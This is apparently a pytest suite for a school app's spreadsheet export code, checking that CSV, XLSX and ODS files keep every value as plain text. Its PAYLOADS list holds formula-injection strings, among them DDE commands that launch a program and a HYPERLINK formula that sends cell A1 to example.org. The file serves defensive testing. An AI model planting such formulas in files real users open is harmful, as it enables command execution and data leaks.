"""Spreadsheets that go out: nothing in them runs, and every text and number comes back."""

import csv
import datetime as dt
import io
import zipfile
from collections.abc import Callable
from decimal import Decimal
from xml.etree import ElementTree

import odfdo
import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from schoolapp.base.language import in_language
from schoolapp.domain.rules import RuleBroken
from schoolapp.exchange.sheets import (
    Column,
    Table,
    excel,
    neutral,
    opendocument,
    original,
    write_csv,
    write_ods,
    write_xlsx,
)

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    '=IMPORTXML("http://example.org","//a")',
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://example.org")',
    "{=SUM(A1:A2)}",
    "+1+1",
    "+31 6 12345678",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@example",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\tname",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    '"=1+1"',
    '"=1+1","=2+2"',
    "'t Hooft",
    "'",
    "=",
    "http://example.org/",
    "mailto:ana@example.org",
    "internal:Sheet1!A1",
    "external:c:\\temp\\x.xlsx",
    "a,b;c\td",
    "_x000D_",
]
NAMES = ["محمد اقبال", "نسرین چوہدری", "Богдан Лисенко", "மாலதி", "रीना", "রফিক", "林建国", "Ñáñez"]
WRITERS = pytest.mark.parametrize("write", [write_csv, write_xlsx, write_ods])
SHEETS = pytest.mark.parametrize("write", [write_xlsx, write_ods])
Writer = Callable[..., bytes]


def texts(values: list[str], **more: object) -> Table:
    """A table of one column of texts; each row ends in a mark so that no row looks empty."""
    columns = (Column("text", "text"), Column("mark", "mark"))
    return Table("Texts", columns, [(value, "end") for value in values], **more)


def by_calamine(file: bytes, sheet: int = 0) -> list[list[object]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(file))
    return book.get_sheet_by_index(sheet).to_python()


def read_csv(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode(), newline="")))


def part(file: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(file)) as package:
        return package.read(name).decode()


def test_payloads_stay_texts_in_xlsx() -> None:
    """No payload becomes a formula or a link, and both readers give each text back."""
    file = write_xlsx(texts(PAYLOADS))
    with zipfile.ZipFile(io.BytesIO(file)) as package:
        sheets = [package.read(name).decode() for name in package.namelist() if "sheets/" in name]
    assert not any(sign in sheet for sheet in sheets for sign in ("<f>", "<f ", "hyperlink"))
    sheet = openpyxl.load_workbook(io.BytesIO(file)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)
    plain = [text for text in PAYLOADS if "\r\n" not in text and text != "_x000D_"]
    read = {unescape(str(cell.value)) for cell in cells}
    assert {text for text in plain if text not in read} == set()
    assert [row[0] for row in by_calamine(file)[1:]] == PAYLOADS


def test_payloads_stay_texts_when_edited_in_xlsx() -> None:
    """A text that looks like a formula carries Excel's mark of a quoted text; others do not."""
    file = write_xlsx(texts(["=1+1", "Ana"]))
    sheet = openpyxl.load_workbook(io.BytesIO(file)).worksheets[0]
    assert [sheet.cell(line, 1).quotePrefix for line in (2, 3)] == [True, False]


def test_payloads_stay_texts_in_ods() -> None:
    """No payload becomes a formula or a link, and both readers give each text back."""
    file = write_ods(texts(PAYLOADS))
    content = part(file, "content.xml")
    assert "table:formula" not in content
    assert "text:a" not in content
    table = odfdo.Document(io.BytesIO(file)).body.tables[0]
    assert [row.cells[0].value for row in table.rows][1:] == PAYLOADS
    assert [row[0] for row in by_calamine(file)[1:]] == PAYLOADS


def test_payloads_are_neutral_in_csv() -> None:
    """No cell starts as a formula does, and ``original`` gives each text back."""
    read = [row[0] for row in read_csv(write_csv(texts(PAYLOADS)))[1:]]
    blanks = " \u00a0\u3000\u200b\ufeff\"'"
    runs = [text for text in read if text.lstrip(blanks)[:1] in set("=+-@|%\t\r\n＝＋－＠")]
    assert all(text.startswith("'") for text in runs if text != "'")
    assert [original(text) for text in read] == PAYLOADS


@given(st.text() | st.text("'\" =+-@|%\t\r\n＝＋\u200ba"))
@example("'t Hooft")
@example("''=1")
def test_original_undoes_neutral(text: str) -> None:
    """What ``neutral`` made, ``original`` gives back, whatever the text."""
    assert original(neutral(text)) == text


@given(st.text("'\" ab"))
def test_an_apostrophe_of_a_name_stays(text: str) -> None:
    """A text that no spreadsheet would run is neither changed going out nor coming in."""
    assert neutral(text) == text
    assert original(text) == text


@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=20), min_size=1, max_size=5))
def test_csv_gives_every_text_back(values: list[str]) -> None:
    """A csv read by another program holds each text but for characters that are not text."""
    read = [original(row[0]) for row in read_csv(write_csv(texts(values)))[1:]]
    assert read == [
        "".join(c for c in value if c in "\t\n\r" or (c >= " " and c not in "\ufffe\uffff"))
        for value in values
    ]


@given(st.text("a '\t\n<&>\"=é😀", max_size=12))
def test_ods_gives_every_text_back(value: str) -> None:
    """Spaces, tabs and line ends survive ODF, which folds them where they are not elements."""
    assert by_calamine(write_ods(texts([value])))[1][0] == value


@WRITERS
def test_names_of_every_script(write: Writer) -> None:
    """Names come back letter by letter in all formats."""
    file = write(texts(NAMES))
    rows = read_csv(file) if write is write_csv else by_calamine(file)
    assert [row[0] for row in rows[1:]] == NAMES


@WRITERS
def test_same_table_same_bytes(write: Writer) -> None:
    """Two exports of the same data are byte-equal."""
    assert write(texts(NAMES, notes=(("Filter", "all"),))) == write(
        texts(NAMES, notes=(("Filter", "all"),))
    )


@WRITERS
def test_characters_that_are_not_text_are_removed(write: Writer) -> None:
    """NUL, escape, lone surrogates and U+FFFE go; the rest of the text and the file stay whole."""
    file = write(texts(["A\x00n\x1ba\ud800 \ufffeP\x0b\x7fz"]))
    rows = read_csv(file) if write is write_csv else by_calamine(file)
    assert rows[1][0] == "Ana P\x7fz"


COLUMNS = (
    Column("whole", "whole", "integer"),
    Column("exact", "exact", "decimal"),
    Column("day", "day", "date"),
    Column("start", "start", "moment"),
    Column("empty", "empty"),
)
VALUES = (
    -7,
    Decimal("54.30"),
    dt.date(2027, 10, 23),
    dt.datetime.fromisoformat("2027-10-23T15:00"),
    None,
)


@SHEETS
def test_cells_are_typed(write: Writer) -> None:
    """Numbers, dates and moments are numbers, dates and moments in a sheet; None is empty."""
    row = by_calamine(write(Table("Types", COLUMNS, [VALUES])))[1]
    assert row == [
        -7,
        54.3,
        dt.date(2027, 10, 23),
        dt.datetime.fromisoformat("2027-10-23T15:00"),
        "",
    ]
    assert type(row[2]) is dt.date


def test_csv_writes_numbers_and_dates_for_machines() -> None:
    """Decimal points, ISO dates, CR LF, and a minus of ours that is not quoted."""
    file = write_csv(Table("Types", COLUMNS, [VALUES]))
    assert file == (b"whole,exact,day,start,empty\r\n-7,54.30,2027-10-23,2027-10-23T15:00,\r\n")


def test_csv_has_a_byte_order_mark_only_on_wish() -> None:
    """Excel needs the mark to see UTF-8; other programs fail on it."""
    assert write_csv(texts(["é"]), byte_order_mark=True) == b"\xef\xbb\xbf" + write_csv(
        texts(["é"])
    )


@SHEETS
def test_what_a_sheet_cannot_hold_exactly_is_text(write: Writer) -> None:
    """Long numbers, early dates and moments with a zone lose nothing: they are written as text."""
    columns = tuple(Column(name, name) for name in "abcdefg")
    row = (
        1234567890123456789,
        Decimal("0.1234567890123456789"),
        dt.date(1899, 12, 31),
        dt.datetime.fromisoformat("1848-02-21T09:00"),
        dt.datetime(2027, 10, 23, 15, 0, tzinfo=dt.timezone(dt.timedelta(hours=2))),
        10**400,
        Decimal("NaN"),
    )
    assert by_calamine(write(Table("Exact", columns, [row])))[1] == [
        "1234567890123456789",
        "0.1234567890123456789",
        "1899-12-31",
        "1848-02-21T09:00",
        "2027-10-23T13:00Z",
        "1" + "0" * 400,
        "NaN",
    ]


@SHEETS
@pytest.mark.parametrize("text", ["x" * 40_000, "😀" * 16_400])
def test_a_text_too_long_for_a_cell_is_refused(write: Writer, text: str) -> None:
    """A text over 32,767 UTF-16 units is refused with a sentence that says where it is."""
    with pytest.raises(RuleBroken) as refused:
        write(texts(["fine", text]))
    assert "column text, line 2" in refused.value.sentence()
    assert "32767" in refused.value.sentence()


@SHEETS
def test_the_longest_text_is_written_whole(write: Writer) -> None:
    """A text of exactly 32,767 characters comes back whole."""
    assert by_calamine(write(texts(["é" * 32_767])))[1][0] == "é" * 32_767


def test_a_long_text_is_written_whole_to_csv() -> None:
    """A csv cell has no limit, so 40,000 characters come back."""
    assert read_csv(write_csv(texts(["x" * 40_000])))[1][0] == "x" * 40_000


@SHEETS
def test_too_many_columns_are_refused(write: Writer) -> None:
    """A table wider than a sheet is refused, not cut."""
    columns = tuple(Column(str(n), str(n)) for n in range(16_385))
    with pytest.raises(RuleBroken, match="larger than a sheet"):
        write(Table("Wide", columns, []))


def test_too_many_rows_are_refused() -> None:
    """A table longer than a sheet is refused, not cut."""
    with pytest.raises(RuleBroken, match="larger than a sheet"):
        write_ods(Table("Long", (Column("a", "a"),), ((None,) for _ in range(1_048_576))))


@SHEETS
def test_notes_stand_on_a_sheet_of_their_own(write: Writer) -> None:
    """The first sheet is one table with one heading row; filters are on the last sheet."""
    second = Table("More", (Column("b", "b"),), [("=2",)])
    file = write(texts(["Ana"], notes=(("Filter", "=all"),)), second)
    book = CalamineWorkbook.from_filelike(io.BytesIO(file))
    assert book.sheet_names == ["Texts", "More", "About this file"]
    assert by_calamine(file)[0] == ["text", "mark"]
    assert by_calamine(file, 2) == [["Texts", ""], ["Filter", "=all"]]


@SHEETS
def test_sheet_names_are_lawful_and_different(write: Writer) -> None:
    """Forbidden characters, length, duplicates and reserved names do not break the file."""
    titles = ["'History'", "a/b:c?", "A B C", "x" * 40, "X" * 40, "[]", ""]
    tables = [Table(title, (Column("a", "a"),), [("v",)]) for title in titles]
    names = CalamineWorkbook.from_filelike(io.BytesIO(write(*tables))).sheet_names
    assert names[:3] == ["History 2", "a b c", "A B C 2"]
    assert names[3:] == ["x" * 31, "X" * 27 + " 2", "Sheet", "Sheet 2"]


def test_xlsx_is_ready_to_read_and_print() -> None:
    """The heading stays in sight and repeats on paper, pages fit the width, columns their text."""
    table = texts(["A name of thirty-one characters"], right_to_left=True)
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(table))).worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert sheet.page_setup.fitToHeight == 0  # as many pages as it takes
    assert sheet.sheet_view.rightToLeft is True
    assert sheet.column_dimensions["A"].width > 31
    assert sheet.auto_filter.ref == "A1:B2"


def test_ods_is_well_formed_and_says_what_it_is() -> None:
    """The type comes first and uncompressed (ODF 1.3 part 2, 3.3), every part is XML, the heading
    repeats on paper and stays in sight, Urdu sheets run from right to left."""
    file = write_ods(texts(["A & B"], right_to_left=True))
    assert file[30:84] == b"mimetypeapplication/vnd.oasis.opendocument.spreadsheet"
    with zipfile.ZipFile(io.BytesIO(file)) as package:
        for name in package.namelist()[1:]:
            ElementTree.fromstring(package.read(name))
    content = part(file, "content.xml")
    assert content.count("<table:table-header-rows>") == 1
    assert 'table:style-name="rtl"' in content
    assert "VerticalSplitPosition" in part(file, "settings.xml")


def test_words_of_the_notes_follow_the_language() -> None:
    """The sheet of notes is named in the language in use, here the pseudo-locale."""
    with in_language("en-XA"):
        file = write_xlsx(texts(["Ana"], notes=(("Filter", "all"),)))
    assert "About this file" not in CalamineWorkbook.from_filelike(io.BytesIO(file)).sheet_names
    assert len(CalamineWorkbook.from_filelike(io.BytesIO(file)).sheet_names) == 2


@SHEETS
def test_a_table_beyond_a_sheet_is_refused(write: Writer, monkeypatch: pytest.MonkeyPatch) -> None:
    """One line more than a sheet holds is refused, not cut; the last line that fits is written."""
    for module in (excel, opendocument):
        monkeypatch.setattr(module, "MOST_ROWS", 4)
    assert len(by_calamine(write(texts(["a"] * 3)))) == 4
    with pytest.raises(RuleBroken):
        write(texts(["a"] * 4))
